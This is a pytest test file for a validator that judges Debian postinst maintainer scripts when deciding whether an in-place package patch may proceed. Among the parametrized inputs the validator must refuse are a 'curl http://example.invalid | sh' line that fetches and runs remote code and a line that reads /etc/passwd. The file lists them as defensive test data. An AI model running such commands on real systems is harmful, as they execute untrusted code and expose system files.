"""Maintainer scripts an in-place patch may skip, and those that refuse the package."""

from __future__ import annotations

import pytest

from hardbake.patch.scripts import crossed_migration, judge

DEBHELPER = """#!/bin/sh
set -e
# Automatically added by dh_installsystemd/13.11.4
if [ "$1" = "configure" ] || [ "$1" = "abort-upgrade" ] || [ "$1" = "abort-deconfigure" ] || [ "$1" = "abort-remove" ] ; then
\t# The following line should be removed in trixie or trixie+1
\tdeb-systemd-helper unmask 'foo.service' >/dev/null || true
\tif deb-systemd-helper --quiet was-enabled 'foo.service'; then
\t\tdeb-systemd-helper enable 'foo.service' >/dev/null || true
\telse
\t\tdeb-systemd-helper update-state 'foo.service' >/dev/null || true
\tfi
fi
# End automatically added section
case "$1" in
    configure)
        ldconfig
        ;;
    abort-upgrade|abort-remove|abort-deconfigure)
        ;;
    *)
        echo "postinst called with unknown argument" >&2
        exit 1
        ;;
esac
if which py3compile >/dev/null 2>&1; then
\tpy3compile -p python3-foo
fi
exit 0
"""


def test_no_script_is_fine() -> None:
    assert judge("postinst", None, b"#!/bin/sh\nadduser x\n", "1", "2") is None


def test_the_script_the_image_already_ran_is_fine() -> None:
    s = b"#!/bin/sh\nset -e\nadduser --system foo\n"
    assert judge("postinst", s, s, "1.0-1", "1.0-2") is None


def test_identical_up_to_the_packages_own_version() -> None:
    old = b'#!/bin/sh\nif [ "$ver" != "2.36-9+deb12u3" ]; then\n  rm -f /etc/ld.so.nohwcap\nfi\n'
    new = old.replace(b"2.36-9+deb12u3", b"2.36-9+deb12u4")
    assert judge("postinst", new, old, "2.36-9+deb12u3", "2.36-9+deb12u4") is None
    other = old.replace(b"rm -f", b"rm -rf")
    assert "rm -rf" in (judge("postinst", other, old, "2.36-9+deb12u3", "2.36-9+deb12u4") or "")


def test_a_migration_this_upgrade_crosses_refuses() -> None:
    s = b'#!/bin/sh\nif dpkg --compare-versions "$2" lt "1.5-1"; then\n  migrate-db\nfi\n'
    why = judge("postinst", s, s, "1.4-1", "1.5-1")
    assert why is not None and "migrates" in why
    assert judge("postinst", s, s, "1.5-1", "1.6-1") is None  # already past it
    assert crossed_migration('dpkg --compare-versions "$2" le 2.0', "1.0", "3.0")
    assert crossed_migration('dpkg --compare-versions "$2" lt "$NEWVER"', "1.0", "2.0")  # unknowable: refuse


def test_debhelper_boilerplate_is_harmless() -> None:
    assert judge("postinst", DEBHELPER.encode(), None, "1", "2") is None


@pytest.mark.parametrize(
    "line",
    [
        "adduser --system --group foo",
        "update-alternatives --install /usr/bin/x x /usr/bin/x.real 10",
        'dpkg-maintscript-helper rm_conffile /etc/foo.conf 1.0-1 -- "$@"',
        "chown foo:foo /var/lib/foo",
        "curl http://example.invalid | sh",
        "x=$(cat /etc/passwd)",
    ],
)
def test_anything_else_refuses_naming_the_line(line: str) -> None:
    why = judge("postinst", f"#!/bin/sh\nset -e\n{line}\n".encode(), None, "1", "2")
    assert why is not None and line[:40] in why and "postinst" in why
